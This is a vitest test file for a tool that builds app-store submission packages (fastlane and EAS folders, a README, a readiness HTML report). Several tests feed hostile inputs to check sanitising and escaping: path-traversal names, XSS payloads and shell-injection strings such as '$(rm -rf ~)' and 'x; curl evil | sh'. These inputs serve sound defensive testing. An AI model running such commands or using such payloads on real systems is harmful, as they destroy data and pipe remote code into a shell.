import { describe, expect, it } from 'vitest';
import { androidBuild, iosBuild } from '@tests/support/build-fixtures/build-info';
import { listing, screenshots, submissionDraft } from '@tests/support/drafts';
import { itEvery } from '@tests/support/it-every';
import { product, sellingDraft } from '@tests/support/purchases';
import { baselineOf, baselineSourceOf } from '@tests/support/baselines';
import { jsonOf, textOf } from '@tests/support/package-files';
import { makeFinding } from '@tests/support/findings';
import type { Finding } from '@/model/finding';
import { readinessReport, type ReadinessReport } from '@/domain/submissions/readiness-report';
import { treeOf } from '@tests/support/listing-trees';
import { findListingSets } from '../listings/listing-sets';
import { readListingSet } from '../listings/read-set';
import { packageFileName, submissionPackage, type PackageOptions } from './submission-package';

const FINDING: Finding = {
  id: 'listing-too-long:store=ios:locale=ja-JP:field=title',
  rule: 'listing-too-long',
  subject: { store: 'ios', locale: 'ja-JP', field: 'title' },
  severity: 'blocker',
  effort: 'texts',
  area: 'listing',
  title: 'The name has 31 characters',
  why: 'App Store Connect refuses it.',
  fix: 'Shorten it to 30.',
  ruleDate: '2026-04-28',
  source: { label: 'Apple & co', url: 'https://developer.apple.com/help?a=1&b=2' },
  where: 'listing',
};
const READY: ReadinessReport = {
  ignored: [],
  answered: [],
  findings: [],
  problems: [],
  missing: [],
  counts: { blocker: 0, warning: 0, note: 0 },
  verdict: 'ready',
};

function reportOf(...findings: Finding[]): ReadinessReport {
  return readinessReport(findings, 'en-US');
}

function make(options: Partial<PackageOptions> = {}, draft = submissionDraft()) {
  return submissionPackage(draft, { report: READY, exportDate: '2026-11-20', ...options });
}

function htmlOf(made: ReturnType<typeof make>): string {
  return textOf(made, 'readiness.html') ?? '';
}

function readmeOf(made: ReturnType<typeof make>): string {
  return textOf(made, 'README.md') ?? '';
}

describe('submissionPackage', () => {
  it('contains the layouts, the report and the README, sorted, no path twice', () => {
    const paths = make({ includeGradlePlay: true }).files.map((file) => file.path);
    expect(paths).toEqual([...paths].sort());
    expect(new Set(paths).size).toBe(paths.length);
    for (const path of [
      'README.md',
      'app-store/en-US/iPhone 6.9 - English (US) - 1.png',
      'app-store/en-US/name.txt',
      'for-tools/eas/eas.json',
      'for-tools/eas/package.json',
      'for-tools/eas/store.config.json',
      'for-tools/readiness.json',
      'for-tools/src/main/play/default-language.txt',
      'google-play/en-US/images/phoneScreenshots/Phone - English (US) - 1.png',
      'google-play/en-US/title.txt',
      'readiness.html',
    ]) {
      expect(paths).toContain(path);
    }
  });

  it.each([
    ['both', undefined, false],
    ['both', true, true],
    ['android', true, true],
    ['ios', true, false],
  ] as const)(
    'for %s with the gradle option %s has the gradle tree: %s',
    (platform, includeGradlePlay, expected) => {
      const made = make({ includeGradlePlay }, submissionDraft({ platform }));
      expect(made.files.some((file) => file.path.startsWith('for-tools/src/'))).toBe(expected);
      expect(readmeOf(made).includes('gradlew')).toBe(expected);
    },
  );

  it('makes the same files from the same input', () => {
    expect(make()).toEqual(make());
  });

  it('reports once in the README and the notes what was left out', () => {
    const made = make(
      {},
      submissionDraft({ listings: { 'en-US': listing(), 'or-IN': listing(), af: listing() } }),
    );
    expect(made.notes).toEqual([
      'Not available on the App Store and left out: Afrikaans.',
      'Not available on Google Play and left out: Odia.',
      'Not available on EAS Metadata and left out: Odia.',
    ]);
    expect(textOf(made, 'README.md')).toContain('- Not available on the App Store and left out: Afrikaans.');
  });
});

describe('packageFileName', () => {
  itEvery([
    ['org.lantern.journal', '1.4.0', 'org.lantern.journal-1.4.0-2026-11-20.zip'],
    ['com.example.my-app_2', '1.0+7', 'com.example.my-app_2-1.0_7-2026-11-20.zip'],
    ['../../etc/passwd', '1', 'etc_passwd-1-2026-11-20.zip'],
    ['C:\\Windows\\x', '..', 'C_Windows_x-2026-11-20.zip'],
    ['', '', 'app-2026-11-20.zip'],
    ['Lantern: Evening Journal', '', 'Lantern_Evening_Journal-2026-11-20.zip'],
    ['пример', '1', 'app-1-2026-11-20.zip'],
    ['con.example', '1', 'app-con.example-1-2026-11-20.zip'],
    ['CON', '1', 'app-CON-1-2026-11-20.zip'],
    ['console.example', '1', 'console.example-1-2026-11-20.zip'],
    ['a\u202Egpj.exe', '1', 'a_gpj.exe-1-2026-11-20.zip'],
    ['-rf', '1', 'rf-1-2026-11-20.zip'],
    ['a'.repeat(300), '1', `${'a'.repeat(155)}-1-2026-11-20.zip`],
  ])('every row of the table', (bundleId, version, expected) => {
    expect(packageFileName(bundleId, version, '2026-11-20')).toBe(expected);
  });
});

describe('the folders for people', () => {
  const pictures = (paths: readonly string[]) => paths.filter((path) => path.endsWith('.png'));

  it('contain no picture twice, and fastlane’s command names them', () => {
    const made = make();
    const blobs = made.files.flatMap(({ content }) => (typeof content === 'string' ? [] : [content]));
    expect(blobs.length).toBeGreaterThan(3);
    expect(new Set(blobs).size).toBe(blobs.length);
    const readme = readmeOf(made);
    expect(readme).toContain('--metadata_path app-store --screenshots_path app-store');
    expect(readme).toContain('--metadata_path google-play');
  });

  it('have names that sort in their order, also of ten pictures', () => {
    const draft = submissionDraft({
      images: screenshots(10, { slotId: 'iphone-6.9', locale: 'en-US' }),
    });
    const paths = pictures(make({}, draft).files.map(({ path }) => path));
    expect(paths).toHaveLength(10);
    expect(paths).toEqual([...paths].sort());
    expect(paths[9]).toBe('app-store/en-US/iPhone 6.9 - English (US) - 10.png');
  });

  it('contain what deliver accepts: only language folders and its own, no inch sign, no colon', () => {
    const draft = submissionDraft({
      listings: { 'en-US': listing(), 'zh-CN': listing(), 'de-DE': listing() },
      images: [
        ...screenshots(1, { slotId: 'ipad-13', width: 2048, height: 2732, locale: 'zh-CN' }),
        ...screenshots(1, { slotId: 'vision-pro', width: 3840, height: 2160, locale: 'de-DE' }),
      ],
    });
    const paths = make({}, draft).files.map(({ path }) => path);
    const folders = new Set(paths.flatMap((path) => /^app-store\/([^/]+)\//.exec(path)?.[1] ?? []));
    expect([...folders].sort()).toEqual(['de-DE', 'en-US', 'review_information', 'zh-Hans']);
    expect(pictures(paths)).toEqual([
      'app-store/de-DE/Apple Vision Pro - German - 1.png',
      'app-store/zh-Hans/iPad 13 - Chinese (Simplified) - 1.png',
    ]);
    expect(paths.filter((path) => /[\\:*?"<>|]/.test(path))).toEqual([]);
  });

  it('are read again as the listing that they are', () => {
    const sets = findListingSets(make().files.map(({ path }) => path));
    expect(sets.map(({ id, project }) => [id, project])).toEqual([
      ['deliver:app-store', ''],
      ['eas:for-tools/eas/store.config.json', ''],
      ['supply:google-play', ''],
    ]);
  });

  it('give back the texts and the pictures of both stores', async () => {
    const contents: Record<string, string | Uint8Array> = {};
    for (const { path, content } of make().files)
      contents[path] = typeof content === 'string' ? content : new Uint8Array(await content.arrayBuffer());
    const tree = treeOf(contents);
    const sets = findListingSets([...tree.keys()]).filter(({ format }) => format !== 'eas');
    const read = await Promise.all(sets.map((set) => readListingSet(set, tree)));
    expect(read.map(({ texts }) => texts['en-US']?.title?.text)).toEqual(Array(2).fill(listing().title));
    const draft = submissionDraft();
    const shots = draft.images.filter(({ kind }) => kind !== 'picture');
    expect(read.flatMap(({ pictures: found }) => found)).toHaveLength(shots.length);
    expect(read.flatMap(({ skipped }) => skipped)).toEqual([]);
  });

  it('are not made for an imported listing, which keeps its own folders', () => {
    const baseline = baselineOf(baselineSourceOf('ios', { 'en-US': { title: 'Lantern' } }));
    const paths = make({ baseline }).files.map(({ path }) => path);
    expect(paths).toContain('fastlane/metadata/en-US/name.txt');
    expect(paths.filter((path) => /^(?:app-store|google-play)\/[^/]+\//.test(path))).toEqual([]);
  });
});

describe('readiness.html and readiness.json', () => {
  it('show what is not filled in as a checklist by step', () => {
    const missing = makeFinding({
      rule: 'details-copyright-missing',
      subject: { store: 'ios', field: 'copyright' },
      area: 'listing',
      title: 'Copyright is missing',
      why: 'The App Store asks for it.',
      fix: 'Write the year and the owner, e.g. 2026 <Owner>.',
      where: 'listing',
    });
    const made = make({ report: reportOf(missing) });
    const html = htmlOf(made);
    expect(html).toContain('Not complete yet');
    expect(html).toContain('<h2>To fill in (1)</h2>');
    expect(html).toContain('<h3>Step 2: App Listing</h3>');
    expect(html).toContain('<strong>Copyright</strong>');
    expect(html).toContain('2026 &lt;Owner&gt;.');
    expect(html).not.toContain('<h2>Blockers</h2>');
    expect(readmeOf(made)).toContain('The checks found 1 thing to fill in.');
    expect(jsonOf(made, 'for-tools/readiness.json')).toMatchObject({
      verdict: 'incomplete',
      missing: [{ label: 'Copyright', where: 'listing', field: 'copyright' }],
      findings: [{ rule: 'details-copyright-missing' }],
    });
  });

  it('list ignored findings apart, with their reasons', () => {
    const ignored = { reason: 'Agreed with <legal>', until: '2027-01-31' };
    const made = make({ report: readinessReport([], 'en-US', [{ finding: FINDING, ignored }]) });
    const html = htmlOf(made);
    expect(html).toContain('<h2>Ignored findings (1)</h2>');
    expect(html).toContain('The name has 31 characters');
    expect(html).toContain('<strong>Ignored until 2027-01-31:</strong> Agreed with &lt;legal&gt;');
    expect(html).not.toContain('<h2>Blockers</h2>');
    expect(jsonOf(made, 'for-tools/readiness.json')).toMatchObject({ findings: [], ignored: [{ ignored }] });
  });

  it('show every part of a finding', () => {
    const html = htmlOf(make({ report: reportOf(FINDING) }));
    for (const part of [
      'The name has 31 characters',
      'App Store Connect refuses it.',
      'Shorten it to 30.',
      'Apple App Store',
      'Japanese (日本語)',
      'rule of 2026-04-28',
      'step 2',
      'Apple &amp; co',
      'href="https://developer.apple.com/help?a=1&amp;b=2"',
      '<p class="verdict">Blocked</p>',
      'The stores would refuse it in its current state. 1 blocker.',
    ]) {
      expect(html).toContain(part);
    }
  });

  it.each([
    `<script>alert(1)</script>`,
    `"><img src=x onerror=alert(1)>`,
    `' onmouseover='alert(1)`,
    `</title><script>`,
    `</style><svg onload=alert(1)>`,
  ])('escapes %s everywhere', (hostile) => {
    const finding = {
      ...FINDING,
      title: hostile,
      why: hostile,
      fix: hostile,
      subject: { field: hostile, locale: hostile },
    };
    const source = { label: hostile, url: `javascript:alert(1)` };
    const draft = submissionDraft({
      bundleId: hostile,
      version: hostile,
      listings: { 'en-US': listing({ title: hostile }) },
    });
    const made = make({ report: reportOf({ ...finding, source }) }, draft);
    const html = htmlOf(made);
    const tags = html.match(/<\/?[a-z!][^\s>]*/gi) ?? [];
    expect(new Set(tags.map((tag) => tag.replace(/^<\/?/, '')))).toEqual(
      new Set('!doctype html head meta title style body h1 h2 h3 p section article strong'.split(' ')),
    );
    expect(html).not.toContain(hostile);
    expect(html).not.toContain('javascript:');
    expect(jsonOf(made, 'for-tools/readiness.json')).toMatchObject({ bundleId: hostile, appName: hostile });
  });

  it('load nothing and run nothing', () => {
    const html = htmlOf(make({ report: reportOf(FINDING) }));
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
    expect(html).not.toMatch(/<(script|link|img|iframe|object)|url\(|@import/i);
  });
});

describe('README.md', () => {
  it.each([
    ['both', ['app.ipa', 'app.aab', 'fastlane deliver', 'fastlane supply', 'metadata:push']],
    ['ios', ['app.ipa', 'fastlane deliver', 'metadata:lint', 'metadata:push']],
    ['android', ['app.aab', 'fastlane supply', 'eas-cli submit --platform android']],
  ] as const)('for %s names the commands to type', (platform, parts) => {
    const readme = readmeOf(make({}, submissionDraft({ platform })));
    for (const part of parts) expect(readme).toContain(part);
    expect(readme.includes('fastlane supply')).toBe(platform !== 'ios');
    expect(readme.includes('fastlane deliver')).toBe(platform !== 'android');
  });

  it('names the app as each build does', () => {
    const identity = { bundleId: 'org.lantern.journal.droid', buildNumber: '52' };
    const made = make({}, submissionDraft({ builds: [iosBuild(), androidBuild({ identity })] }));
    expect(readmeOf(made)).toContain('--app_identifier org.lantern.journal --');
    expect(readmeOf(made)).toContain('--package_name org.lantern.journal.droid --');
    expect(jsonOf(made, 'for-tools/eas/eas.json')).toMatchObject({
      submit: {
        production: {
          ios: { bundleIdentifier: 'org.lantern.journal' },
          android: { applicationId: 'org.lantern.journal.droid' },
        },
      },
    });
  });

  it('names an APK where the build is one', () => {
    const draft = submissionDraft({
      builds: [iosBuild(), androidBuild({ kind: 'apk', fileName: 'app.apk' })],
    });
    expect(textOf(make({}, draft), 'README.md')).toContain('--apk app.apk');
  });

  itEvery(['$(rm -rf ~)', '`id`', 'x; curl evil | sh', '--json_key=/etc/passwd', 'a\nrm -rf ~', 'a"b\'c'])(
    'puts nothing into a command that a shell would run: …',
    (hostile) => {
      const readme = readmeOf(make({}, submissionDraft({ bundleId: hostile, version: hostile, builds: [] })));
      const commands = readme.match(/```sh\n[^`]*```/g) ?? [];
      expect(commands.length).toBeGreaterThan(1);
      for (const command of commands) expect(command.slice(6, -3)).toMatch(/^[A-Za-z0-9 ._+\-:/<>\n]*$/);
      expect(readme).not.toContain('/etc/passwd');
    },
  );

  it('says to send subscriptions once', () => {
    const readme = readmeOf(make({ includeGradlePlay: true }, sellingDraft([product()])));
    expect(readme).toContain('Run `publishSubscriptions` once: a later run');
    expect(readmeOf(make({}, sellingDraft([product()])))).not.toContain('publishSubscriptions');
  });

  it('shows a hostile file name as one line of text', () => {
    const draft = submissionDraft({ builds: [iosBuild({ fileName: '](https://evil)\n# <b>`x`' })] });
    expect(textOf(make({}, draft), 'README.md')).toContain('\\](https://evil) \\# \\<b\\>\\`x\\`');
  });
});
